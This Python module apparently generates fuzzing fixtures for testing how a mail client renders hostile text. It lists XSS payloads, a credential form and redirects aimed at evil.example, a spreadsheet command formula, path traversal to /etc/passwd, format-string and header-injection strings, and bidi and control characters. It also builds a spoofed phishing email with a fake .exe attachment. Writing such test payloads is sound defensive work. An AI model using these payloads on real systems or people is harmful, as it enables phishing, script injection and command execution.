"""Texts that would do something if a sink took them for more than text, each with a mark to find it by.
SPDX-License-Identifier: GPL-3.0-or-later"""
import base64

MARKUP = [
    '<b>{m}</b>', '</span>{m}', '<span foreground="red" size="999999">{m}</span>', '&lt;b&gt;{m}', '&amp;amp;{m}', '&#x3c;script&#x3e;{m}', '&{m}', '<{m}', '<a href="http://evil.example">{m}</a>',
    '<script>alert("{m}")</script>', '<img src=x onerror=alert(1)>{m}', '<svg/onload=alert(1)>{m}', '<iframe srcdoc="<script>1</script>">{m}', '<style>*{{display:none}}</style>{m}',
    '<meta http-equiv=refresh content="0;url=http://evil.example">{m}', '<base href="http://evil.example/">{m}', '<form action="http://evil.example"><input name=p>{m}', '"><script>1</script>{m}',
    "' onmouseover='alert(1)' {m}", '--><script>1</script>{m}', ']]><x>{m}', '<!--{m}', '</title><script>1</script>{m}', '</style><script>1</script>{m}', '</bdi></dd></dl><h1>{m}</h1>', '<link rel=stylesheet href=http://evil.example>{m}',
    'javascript:alert(1)//{m}', 'data:text/html,<script>1</script>{m}', '<markup>{m}', '<tt>{m}', '<span font_desc="{m}">', '<math><mi xlink:href="data:x">{m}', '<object data="x">{m}', '<details open ontoggle=alert(1)>{m}']
FORMATS = ['%s%s%s%n{m}', '%1$n%99999999d{m}', '{{domain}}{{missing}}{m}', '${{x}}{m}', '@missing {m}', '\\n\\x41\\u0041{m}', '%%EOF {m}', ') Tj ET (/JS){m}', 'endstream endobj {m}', '=cmd|calc!A1 {m}', '../../../etc/passwd {m}', '_{m}_ mnemonic']
UNSEEN = ['\u202e{m}\u202c', '\u2066{m}\u2069\u2069\u2069', '\u2069{m}', '\u200f\u061c{m}', 'a\u200b\u200c\u200d\u2060{m}', '\ufeff{m}', '\u2028{m}\u2029', '\x85{m}', '\x1b[31m{m}\x1b]0;x\x07', '\x9b31m{m}', '\x08\x08\x08{m}', '\x00{m}',
          '\r\nX-Injected: {m}', '\U000e0041\U000e0042{m}', '\u180e\u115f\u3164{m}', '\ufffe\uffff{m}', 'e' + '\u0301' * 200 + '{m}', 'א' * 50 + ' {m}', 'مرحبا {m} أهلا', '\t\t{m}', '😀👨\u200d👩\u200d👧 {m}']
LONG = ['{m}' + 'A' * 1000000, '{m}' + 'あ' * 300000, '{m} ' + 'a ' * 200000, '{m}' + '<' * 100000]
RAW = [b'\xed\xa0\x80', b'\xc0\xaf', b'\xf5\x80\x80\x80', b'\xff\xfe', b'\x80\x80']


def payloads():
    """[(mark, bytes)]"""
    texts = [t.format(m='mark%dq' % i).encode('utf-8', 'surrogatepass') for i, t in enumerate(MARKUP + FORMATS + UNSEEN + LONG)]
    texts += [raw + ('mark%dq' % (len(texts) + i)).encode() for i, raw in enumerate(RAW)]
    return [('mark%dq' % i, text) for i, text in enumerate(texts)]


def word(data):
    """An encoded-word for each piece that fits a line."""
    pieces = [data[i:i + 600] for i in range(0, len(data), 600)]
    return b'\r\n '.join(b'=?UTF-8?B?' + base64.b64encode(p) + b'?=' for p in pieces)


def mail(data):
    """A mail that carries the payload wherever a mail can carry text that is shown."""
    html = b'<p><a href="http://evil.example/' + data[:2000] + b'">' + data[:2000].replace(b'<', b'&lt;') + b'</a> <form action="http://evil.example/x"><input type=password></form>'
    return (b'Return-Path: <bounce@evil.example>\r\n'
            b'Received: from ' + data[:200].replace(b'\r\n', b' ').replace(b'\0', b'') + b' (unknown [203.0.113.9])\r\n\tby mx.victim.example with ESMTP id x;\r\n\tTue, 14 Jul 2026 08:12:41 +0900\r\n'
            b'From: ' + word(data) + b' <info@evil.example>\r\nTo: taro@victim.example\r\nReply-To: ' + word(data[:600]) + b' <reply@other.example>\r\n'
            b'Subject: ' + word(data) + b'\r\nDate: Tue, 14 Jul 2026 08:12:38 +0900\r\nMessage-ID: <1@evil.example>\r\nMIME-Version: 1.0\r\n'
            b'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n' + base64.encodebytes(html) +
            b'--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="' + word(data[:300] + b'.exe').replace(b'\r\n ', b' ') + b'"\r\n\r\nMZ\r\n--b--\r\n')
